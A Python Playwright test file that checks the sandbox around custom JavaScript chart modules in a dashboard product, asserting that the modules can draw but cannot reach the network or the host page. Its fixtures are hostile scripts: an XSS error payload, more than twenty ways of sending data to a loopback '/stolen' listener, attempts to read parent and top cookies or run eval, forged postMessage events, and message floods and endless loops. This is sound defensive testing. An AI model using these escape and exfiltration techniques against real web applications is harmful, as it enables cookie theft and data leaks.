"""Modules of custom kinds in a real browser: what they can draw, and what they cannot reach."""

import socket
import threading
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from apps.widgets import modules, tasks
from tests.browser.conftest import sign_in
from tests.dashboards.boards import add_card, make_board

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

EXAMPLE = Path(__file__).resolve().parents[2] / "docs/custom-example.js"
QUERY = {"measures": ["revenue"], "dimensions": ["region"]}
VEGA = """sightline.register({ async draw(element, { frames }, { rows }) {
  await vegaLite(element, { mark: "bar", encoding: {
    x: { field: "region", type: "nominal" },
    y: { field: "revenue", type: "quantitative", aggregate: "sum" } } }, rows(frames.main));
} });"""
DEAF = "// sightline.register is never called"
HOSTILE_ERROR = """sightline.register({ draw() {
  throw new Error('<img src=x onerror="top.hacked=1"><script>top.hacked=1</script>');
} });"""
OUTWARD = """sightline.register({ async draw(element) {
  const to = "http://127.0.0.1:PORT/stolen";
  const tries = [
    () => fetch(to, { mode: "no-cors" }), () => navigator.sendBeacon(to, "x"),
    () => { const x = new XMLHttpRequest(); x.open("GET", to); x.send(); },
    () => new WebSocket(to.replace("http", "ws")), () => new EventSource(to),
    () => (new Image().src = to), () => import(to), () => new Worker(to),
    () => add("link", { rel: "stylesheet", href: to }), () => add("script", { src: to }),
    () => add("link", { rel: "prefetch", href: to }),
    () => add("link", { rel: "preconnect", href: to }), () => add("object", { data: to }),
    () => add("iframe", { src: to }), () => add("video", { src: to }),
    () => add("style", { textContent: `@import "${to}"; *{background:url("${to}")}` }),
    () => { const f = add("form", { action: to, method: "post" }); f.submit(); },
    () => open(to), () => add("a", { href: to, target: "_top", ping: to }).click(),
    () => { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:PORT" }] });
      p.createDataChannel("x"); return p.createOffer().then((o) => p.setLocalDescription(o)); },
  ];
  const add = (name, more) =>
    element.appendChild(Object.assign(document.createElement(name), more));
  for (const attempt of tries) { try { await Promise.race([attempt(), pause(50)]); } catch {} }
  setTimeout(() => (location.href = to), 1500);
  return "tried all";
  function pause(ms) { return new Promise((done) => setTimeout(done, ms)); }
} });"""
INWARD = """sightline.register({ async draw() {
  while (parent.frames.length < 3) await new Promise((done) => setTimeout(done, 20));
  const other = [0, 1, 2].find((at) => parent.frames[at] !== window);
  const tries = [
    () => parent.document.title, () => top.document.cookie, () => document.cookie,
    () => localStorage.x, () => parent.localStorage.x, () => indexedDB.open("x"),
    () => parent.eval("1"), () => (top.location.href = "about:blank"),
    () => parent.frames[other].document.title, () => (parent.hacked = 1), () => parent.fetch,
    () => { alert(1); throw 1; }, () => new Function("1")(), () => eval("1"),
  ];
  return tries.map((attempt, i) => { try { attempt(); return i; } catch { return ""; } }).join("!");
} });"""
FORGER = """sightline.register({ draw() {
  const data = JSON.stringify({ type: "data", frames: {}, options: {}, theme: {},
    size: { width: 1, height: 1 }, locale: "forged" });
  for (let i = 0; i < parent.frames.length; i++) parent.frames[i].postMessage(data, "*");
  parent.postMessage(JSON.stringify({ type: "select", column: "region", value: "West" }), "*");
  parent.postMessage({ type: "select", column: "region", value: "West" }, "*");
} });"""
WITNESS = """sightline.register({ draw(element, { locale }) {
  element.textContent = (element.textContent + " " + locale).trim();
} });"""
FLOOD = """sightline.register({ draw() {
  for (let i = 0; i < 20000; i++) parent.postMessage(JSON.stringify({ type: "drawn" }), "*");
} });"""
LOOP = "sightline.register({ draw() { for (;;) {} } });"


@pytest.fixture(autouse=True)
def no_pictures(monkeypatch):
    monkeypatch.setattr(tasks.draw_pictures, "delay", lambda *wanted: None)


@pytest.fixture
def listener():
    """A loopback listener on TCP and UDP; `hits` are the bytes that came."""
    hits: list[bytes] = []
    tcp = socket.create_server(("127.0.0.1", 0))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", tcp.getsockname()[1]))

    def accept():
        while True:
            try:
                peer, _address = tcp.accept()
                peer.settimeout(1)
                hits.append(peer.recv(200) or b"connected")
                peer.close()
            except TimeoutError:
                hits.append(b"connected")
            except OSError:
                return

    def receive():
        while True:
            try:
                hits.append(b"udp " + udp.recv(200))
            except OSError:
                return

    for work in (accept, receive):
        threading.Thread(target=work, daemon=True).start()
    yield tcp.getsockname()[1], hits
    tcp.close()
    udp.close()


@pytest.fixture
def open_with(page: Page, both_doors, admin_user, viewer, editor, orders):
    """A viewer on a dashboard with a bar chart and a card for each module: (name, source, libs)."""

    def opened(*wanted):
        board = make_board(editor, orders, cards=(("Bars", "bar", (0, 0, 8, 6), QUERY),))
        for n, (name, source, libraries) in enumerate(wanted):
            data = source.encode()
            made = modules.upload(
                admin_user, orders.workspace, name=name, libraries=libraries, data=data
            )
            place = (8 * ((n + 1) % 3), 6 * ((n + 1) // 3), 8, 6)
            options = {"module": str(made.kind_id)}
            add_card(board, orders, name, "custom", place, QUERY, options=options)
        sign_in(page, both_doors, viewer, "/d/sales/")
        return page

    return opened


def card(page, title):
    return page.locator(".card", has=page.get_by_role("heading", name=title, exact=True))


def inside(page, title):
    return card(page, title).frame_locator("iframe.custom")


def frames_per_second(page):
    return page.evaluate(
        """() => new Promise((done) => { let n = 0; const from = performance.now();
        const tick = () => (performance.now() - from > 1500 ? done(n / 1.5)
          : (n++, requestAnimationFrame(tick)));
        requestAnimationFrame(tick); })"""
    )


def test_modules_draw_with_d3_and_vega_and_a_click_filters_the_page(open_with):
    page = open_with(("Lollipop", EXAMPLE.read_text(), "d3"), ("Vega", VEGA, "vega"))
    marks = inside(page, "Lollipop").locator("circle")
    expect(marks.first).to_be_visible(timeout=20_000)
    expect(inside(page, "Vega").locator("svg path").first).to_be_attached(timeout=20_000)
    before = marks.count()
    assert before > 1
    name = inside(page, "Lollipop").locator("text").first.text_content()
    marks.first.click()
    page.wait_for_url(f"**var-region={name}**")
    expect(marks).to_have_count(1, timeout=10_000)
    assert page.problems == []


def test_a_module_that_fails_or_never_starts_says_so_as_text_with_a_remedy(open_with):
    page = open_with(("Broken", HOSTILE_ERROR, ""), ("Deaf", DEAF, ""))
    problem = card(page, "Broken").locator(".custom__problem")
    expect(problem).to_contain_text("<img src=x onerror=", timeout=20_000)
    assert problem.locator("img, script").count() == 0
    late = card(page, "Deaf").locator(".custom__problem")
    expect(late).to_contain_text("did not start", timeout=20_000)
    late.get_by_role("button", name="Try again").click()
    expect(late).to_be_hidden()
    assert page.evaluate("window.hacked") is None


def test_a_module_reaches_no_address(open_with, listener):
    port, hits = listener
    page = open_with(("Outward", OUTWARD.replace("PORT", str(port)), ""))
    chart = card(page, "Outward").locator(".card__chart")
    expect(chart).to_have_attribute("aria-label", "tried all", timeout=30_000)
    page.wait_for_timeout(4000)
    # Chromium may open a connection, without a byte, before it refuses to lead a frame away
    assert [hit for hit in hits if hit != b"connected"] == []
    assert len(page.context.pages) == 1
    assert page.url.endswith("/d/sales/")


def test_a_module_reaches_neither_the_page_nor_other_cards(open_with):
    page = open_with(("Witness", WITNESS, ""), ("Inward", INWARD, ""), ("Forger", FORGER, ""))
    chart = card(page, "Inward").locator(".card__chart")
    expect(chart).to_have_attribute("aria-label", "!" * 13, timeout=20_000)
    expect(card(page, "Forger").locator("iframe.custom")).to_be_visible()
    page.wait_for_timeout(1500)
    assert "forged" not in inside(page, "Witness").locator("#root").inner_text()
    page.evaluate(
        """() => window.postMessage(JSON.stringify(
        { type: "select", column: "region", value: "West" }), "*")"""
    )
    page.wait_for_timeout(300)
    assert page.url.endswith("/d/sales/")
    assert page.evaluate("window.hacked") is None


def test_a_flood_is_stopped(open_with):
    page = open_with(("Flood", FLOOD, ""))
    problem = card(page, "Flood").locator(".custom__problem")
    expect(problem).to_contain_text("far too many messages", timeout=30_000)
    expect(card(page, "Flood").locator("iframe")).to_have_count(0)


def test_a_loop_without_end_leaves_the_page_usable_and_is_stopped(open_with, record_property):
    page = open_with(("Loop", LOOP, ""))
    expect(card(page, "Loop").locator("iframe.custom")).to_be_visible(timeout=20_000)
    page.wait_for_timeout(1000)
    rate = frames_per_second(page)
    record_property("frames_per_second_beside_an_endless_loop", rate)
    print(f"frames per second beside an endless loop: {rate:.0f}")
    assert rate > 10
    card(page, "Bars").locator(".card__menu > .icon-btn").click()
    expect(page.get_by_role("menuitem", name="See data").first).to_be_visible()
    problem = card(page, "Loop").locator(".custom__problem")
    expect(problem).to_contain_text("did not answer", timeout=40_000)
    expect(card(page, "Loop").locator("iframe")).to_have_count(0)
